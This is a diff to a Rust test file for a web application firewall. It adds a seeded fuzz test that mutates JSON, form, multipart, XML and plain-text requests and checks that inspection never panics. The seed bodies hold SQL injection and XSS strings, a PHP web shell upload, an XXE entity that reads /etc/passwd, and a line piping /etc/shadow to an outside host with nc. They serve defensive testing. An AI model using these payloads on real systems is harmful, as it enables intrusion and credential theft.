@@ -527,3 +527,78 @@ fn exclusions_with_variables_narrow_request_level_checks() {
     assert!(!fires(&w));
     assert!(fires(&waf(1)));
 }
+
+/// Mutated requests of every body type the WAF parses (JSON, forms,
+/// multipart, XML, NDJSON) and their headers and query strings: inspection
+/// returns a verdict for each, whatever the bytes, and never panics. The
+/// parsers are third-party code (serde_json, multer, quick-xml,
+/// libinjectionrs); a seeded generator keeps failures reproducible.
+#[test]
+fn mutated_requests_never_panic() {
+    let seeds: [(&str, &str); 6] = [
+        ("application/json", r#"{"a":[1,"x\u0041",{"b":null,"c":"' OR 1=1--"}],"d":{"e":"<svg onload=x>"}}"#),
+        ("application/x-www-form-urlencoded", "q=%3Cscript%3E&x=1%20union%20select&y=%u0041&z=%zz&&=&a[b]=c"),
+        (
+            "multipart/form-data; boundary=XyZ",
+            "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n../../etc/passwd\r\n--XyZ--\r\n",
+        ),
+        ("application/xml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a x=\"1\"><b>&e;</b><![CDATA[<script>]]></a>"),
+        ("application/x-ndjson", "{\"a\":\"b\"}\n{\"c\":[\"d\"]}\n"),
+        ("text/plain", "sleep(5); cat /etc/shadow | nc 1.2.3.4 80"),
+    ];
+    let mut state = 0x9e37_79b9_7f4a_7c15u64;
+    let mut next = move || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        state
+    };
+    let interesting: &[u8] = b"\"\\{}[]<>&=%;:,'\x00\xff\xc0\r\n-*/()$u";
+    for w in [waf(1), waf(4)] {
+        for round in 0..600 {
+            let (content_type, seed) = seeds[round % seeds.len()];
+            let mut body = seed.as_bytes().to_vec();
+            for _ in 0..1 + next() % 8 {
+                let at = (next() as usize) % (body.len() + 1);
+                match next() % 4 {
+                    0 if at < body.len() => {
+                        body[at] = interesting[next() as usize % interesting.len()]
+                    }
+                    1 => body.insert(at, interesting[next() as usize % interesting.len()]),
+                    2 if at < body.len() => {
+                        body.remove(at);
+                    }
+                    _ => {
+                        let end = (at + (next() as usize % 16)).min(body.len());
+                        let chunk = body[at..end].to_vec();
+                        body.splice(at..at, chunk);
+                    }
+                }
+            }
+            let mut r = post("/api?x=1", content_type, "");
+            r.body = body;
+            // The query and a header get the same bytes, as far as they can
+            // travel in a request line and a header value.
+            let printable: String = r
+                .body
+                .iter()
+                .filter(|b| b.is_ascii_graphic())
+                .map(|&b| b as char)
+                .collect();
+            r.uri = format!("/api?v={}", printable.replace(['#', ' '], ""));
+            if let Ok(v) = http::HeaderValue::from_str(&printable) {
+                r.headers.insert("x-mutated", v);
+            }
+            let verdict = inspect(&w, &r);
+            assert!(
+                verdict.score
+                    >= verdict
+                        .detections
+                        .iter()
+                        .map(|d| d.score)
+                        .max()
+                        .unwrap_or(0)
+            );
+        }
+    }
+}
